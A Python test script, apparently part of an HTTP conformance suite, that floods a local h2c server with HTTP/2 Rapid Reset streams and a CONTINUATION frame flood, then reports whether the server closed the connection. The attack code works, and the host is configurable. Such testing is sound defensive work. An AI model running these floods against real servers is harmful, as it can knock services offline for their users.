#!/usr/bin/env python3
"""HTTP/2 abuse against an h2c listener (shared/HTTP-CONFORMANCE.md §12), bounded in
count and time, loopback only. Prints one JSON object; exit 1 when a
CONTINUATION flood was not cut off.

  rapid_reset   HEADERS (END_STREAM) + RST_STREAM(CANCEL), up to --count streams
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames of HPACK literals
                until the server closes, or 64 MiB / --seconds
"""

import argparse
import json
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def drain(sock):
    """Reads what is available; returns (bytes read, closed by the server)."""
    got = 0
    sock.setblocking(False)
    try:
        while True:
            try:
                data = sock.recv(65536)
            except BlockingIOError:
                return got, False
            if not data:
                return got, True
            got += len(data)
    except (ConnectionResetError, BrokenPipeError):
        return got, True
    finally:
        sock.setblocking(True)


def rapid_reset(host, port, authority, count, seconds):
    sock = socket.create_connection((host, port), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    enc = hpack.Encoder()
    sent = 0
    closed = False
    deadline = time.time() + seconds
    stream = 1
    while sent < count and time.time() < deadline:
        block = enc.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", authority)])
        data = frame(0x1, 0x5, stream, block) + frame(0x3, 0x0, stream, struct.pack(">I", 0x8))
        try:
            sock.sendall(data)
        except (BrokenPipeError, ConnectionResetError):
            closed = True
            break
        sent += 1
        stream += 2
        if sent % 100 == 0:
            _, c = drain(sock)
            if c:
                closed = True
                break
    if not closed:
        time.sleep(0.5)
        _, closed = drain(sock)
    sock.close()
    # Whether that is a defence is for the caller to judge (e.g. what reached the app).
    return {"attack": "rapid_reset", "streams_sent": sent, "closed_by_server": closed, "ok": True}


def continuation(host, port, authority, seconds):
    sock = socket.create_connection((host, port), timeout=5)
    sock.sendall(PREFACE + frame(0x4, 0x0, 0, b""))
    enc = hpack.Encoder()
    first = enc.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", authority)])
    sent = 0
    closed = False
    try:
        sock.sendall(frame(0x1, 0x0, 1, first))  # no END_HEADERS
        chunk = b"".join(
            b"\x00" + bytes([10]) + b"x-flood-%02d" % (i % 100) + bytes([100]) + b"v" * 100 for i in range(100)
        )
        deadline = time.time() + seconds
        while sent < 64 * 1024 * 1024 and time.time() < deadline:
            sock.sendall(frame(0x9, 0x0, 1, chunk))
            sent += len(chunk)
            if sent % (1 << 20) < len(chunk):
                _, c = drain(sock)
                if c:
                    closed = True
                    break
    except (BrokenPipeError, ConnectionResetError, socket.timeout):
        closed = True
    if not closed:
        time.sleep(0.5)
        _, closed = drain(sock)
    sock.close()
    return {"attack": "continuation", "bytes_sent": sent, "closed_by_server": closed, "ok": closed}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--authority", default="localhost")
    p.add_argument("--count", type=int, default=10000)
    p.add_argument("--seconds", type=float, default=5.0)
    p.add_argument("attack", choices=["rapid_reset", "continuation"])
    a = p.parse_args()
    if a.attack == "rapid_reset":
        out = rapid_reset(a.host, a.port, a.authority, a.count, a.seconds)
    else:
        out = continuation(a.host, a.port, a.authority, a.seconds)
    print(json.dumps(out))
    sys.exit(0 if out["ok"] else 1)


if __name__ == "__main__":
    main()
